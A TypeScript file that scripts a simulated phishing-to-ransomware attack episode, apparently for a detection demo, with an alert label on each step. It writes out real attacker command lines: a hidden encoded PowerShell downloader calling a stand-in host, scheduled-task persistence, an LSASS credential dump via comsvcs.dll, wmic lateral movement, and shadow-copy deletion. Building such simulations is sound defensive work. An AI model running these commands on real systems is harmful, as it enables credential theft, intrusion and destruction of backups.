import { domainUser } from '../../../scripts/demo/recording/company.ts';
import { encodedCommand } from '../../../scripts/demo/recording/encoded-command.ts';
import type { Episode, Stage } from '../../../scripts/demo/recording/episode.ts';
import type { WindowsActor } from '../../../scripts/demo/recording/windows-actor.ts';
import { system32, type WindowsProcess } from '../../../scripts/demo/recording/windows-machine.ts';

const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const home = 'C:\\Users\\jiwoo.han\\AppData';
const server = { ip: '203.0.113.47', port: 443, name: 'cdn.sunbi-update.example' };

/** A macro document becomes a foothold on a desk, and the foothold a file server made ready for ransomware. */
export const attackPhishing: Episode = {
  id: 'attack-phishing-to-ransomware',
  kind: 'attack',
  title: {
    ko: '악성 문서에서 파일 서버 랜섬웨어 준비까지',
    en: 'Macro document to ransomware preparation on the file server',
  },
  play(stage) {
    const desk = stage.windows('GD-PC-0114');
    const loader = openDocument(stage, desk);
    stage.scene.wait(140);
    const implant = settleIn(stage, desk, loader);
    stage.scene.wait(420);
    lookAround(stage, desk, implant);
    stage.scene.wait(380);
    dumpCredentials(stage, desk, implant);
    stage.scene.wait(520);
    moveToFileServer(stage, desk, implant);
  },
};

function openDocument({ scene }: Stage, desk: WindowsActor): WindowsProcess {
  const outlook = desk.running('outlook');
  const folder = `${home}\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QX2M1PD`;
  const document = `${folder}\\견적요청서_0612.docm`;
  desk.writeFile(outlook, document);
  scene.wait(4);
  const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  const word = desk.start({ parent: outlook, image: office, commandLine: `"${office}" /n "${document}" /o ""` });
  desk.writeFile(word, `${folder}\\~$적요청서_0612.docm`);
  desk.loadImage(
    word,
    'C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL',
    'Microsoft Corporation',
  );
  scene.wait(11);
  const script = `$c=New-Object Net.WebClient;$d=$env:APPDATA+'\\Microsoft\\Sync';md $d -Force|Out-Null;$c.DownloadFile('https://${server.name}/q/wsyncsvc.dat',$d+'\\wsyncsvc.exe');Start-Process $d\\wsyncsvc.exe`;
  const loader = desk.start({
    parent: word,
    image: powershell,
    commandLine: `powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -EncodedCommand ${encodedCommand(script)}`,
    alert: 'Office program starts a shell or script host',
  });
  desk.start({
    parent: loader,
    image: `${system32}conhost.exe`,
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
  });
  scene.wait(2);
  desk.resolve(loader, server.name, server.ip);
  desk.connect(loader, server);
  scene.wait(3);
  desk.writeFile(loader, `${home}\\Roaming\\Microsoft\\Sync\\wsyncsvc.exe`);
  return loader;
}

function settleIn({ scene }: Stage, desk: WindowsActor, loader: WindowsProcess): WindowsProcess {
  const image = `${home}\\Roaming\\Microsoft\\Sync\\wsyncsvc.exe`;
  const implant = desk.start({ parent: loader, image, commandLine: `"${image}"` });
  scene.wait(1);
  desk.exit(loader);
  desk.resolve(implant, server.name, server.ip);
  desk.connect(implant, server);
  scene.wait(25);
  const cmd = desk.start({
    parent: implant,
    image: `${system32}cmd.exe`,
    commandLine: `cmd.exe /c schtasks /create /f /sc onlogon /tn "Microsoft\\Sync\\SyncHelper" /tr "${image} -s"`,
  });
  desk.start({
    parent: cmd,
    image: `${system32}schtasks.exe`,
    commandLine: `schtasks /create /f /sc onlogon /tn "Microsoft\\Sync\\SyncHelper" /tr "${image} -s"`,
    alert: 'Scheduled task created or changed from the command line',
  });
  scene.wait(6);
  desk.writeFile(desk.running('schedule'), 'C:\\Windows\\System32\\Tasks\\Microsoft\\Sync\\SyncHelper');
  desk.connect(implant, server);
  return implant;
}

function lookAround({ scene }: Stage, desk: WindowsActor, implant: WindowsProcess): void {
  const cmd = desk.start({ parent: implant, image: `${system32}cmd.exe`, commandLine: 'cmd.exe /q' });
  const run = (file: string, commandLine: string, alert?: string) => {
    scene.wait(scene.random.between(2, 7));
    return desk.start({ parent: cmd, image: `${system32}${file}`, commandLine, alert });
  };
  run('whoami.exe', 'whoami');
  run('net.exe', 'net group "Domain Admins" /domain', 'Privileged groups or accounts listed');
  run('net.exe', 'net view \\\\GD-FS-01 /all');
  scene.wait(5);
  desk.connect(implant, { ip: '10.20.20.10', port: 389, name: 'gd-dc-01.gaondeul.example' });
  desk.connect(implant, server);
}

function dumpCredentials({ scene }: Stage, desk: WindowsActor, implant: WindowsProcess): void {
  desk.connect(implant, server);
  const lsass = desk.running('lsass');
  const elevated = desk.start({
    parent: implant,
    image: `${system32}cmd.exe`,
    commandLine: 'cmd.exe /q',
    integrity: 'High',
  });
  scene.wait(8);
  const dump = 'C:\\Windows\\Temp\\wct3F2A.tmp';
  const rundll = desk.start({
    parent: elevated,
    image: `${system32}rundll32.exe`,
    commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`,
    alert: 'Command dumps the memory of the credential process',
  });
  desk.loadImage(rundll, `${system32}comsvcs.dll`, 'Microsoft Windows');
  desk.loadImage(rundll, `${system32}dbgcore.dll`, 'Microsoft Windows');
  desk.open(rundll, lsass, '0x1fffff', { alert: 'Memory of the credential process read' });
  scene.wait(2);
  desk.writeFile(rundll, dump);
  scene.wait(16);
  desk.connect(implant, server);
  scene.wait(9);
  desk.deleteFile(elevated, dump);
}

function moveToFileServer(stage: Stage, desk: WindowsActor, implant: WindowsProcess): void {
  const { scene } = stage;
  const files = stage.windows('GD-FS-01');
  const cmd = desk.start({
    parent: implant,
    image: `${system32}cmd.exe`,
    commandLine: 'cmd.exe /q',
    integrity: 'High',
  });
  scene.wait(5);
  desk.start({
    parent: cmd,
    image: `${system32}net.exe`,
    commandLine: 'net use \\\\GD-FS-01\\ADMIN$ /user:GAONDEUL\\adm.backup ********',
  });
  desk.connect(desk.running('dns'), { ip: '10.20.20.21', port: 445, name: 'gd-fs-01.gaondeul.example' });
  files.logon({ user: 'adm.backup', fromIp: desk.machine.facts.ip, type: 3 });
  scene.wait(6);
  desk.start({
    parent: cmd,
    image: `${system32}wbem\\WMIC.exe`,
    commandLine:
      'wmic /node:GD-FS-01 /user:GAONDEUL\\adm.backup process call create "C:\\ProgramData\\WxSync\\wsx.exe -i"',
    alert: 'wmic creates a process',
  });
  // What comes over a share is written by the kernel.
  files.writeFile(files.running('kernel'), 'C:\\ProgramData\\WxSync\\wsx.exe');
  const service = 'C:\\ProgramData\\WxSync\\wsx.exe';
  files.installService({
    name: 'WxSyncHost',
    path: `%COMSPEC% /c start /b ${service} -s`,
    alert: 'Service installed that runs a shell or a file in an unusual place',
  });
  scene.wait(2);
  const implantHere = files.start({
    parent: files.running('wmi'),
    image: service,
    commandLine: `${service} -i`,
    user: domainUser('adm.backup'),
    integrity: 'High',
  });
  files.connect(implantHere, server);
  scene.wait(95);
  prepareEncryption(stage, files, implantHere);
}

function prepareEncryption({ scene }: Stage, files: WindowsActor, implant: WindowsProcess): void {
  const run = (file: string, commandLine: string, alert?: string) => {
    scene.wait(scene.random.between(1, 3));
    return files.start({ parent: implant, image: `${system32}${file}`, commandLine, alert });
  };
  run('net.exe', 'net stop "Hanul Backup Agent" /y');
  run('sc.exe', 'sc config HanulBackup start= disabled');
  run('vssadmin.exe', 'vssadmin delete shadows /all /quiet', 'Backups or recovery removed');
  scene.wait(4);
  files.connect(implant, server);
  for (const folder of ['설계', '회계', '인사']) {
    files.writeFile(implant, `D:\\공유\\${folder}\\HOW_TO_RESTORE.txt`);
    scene.wait(1);
  }
}
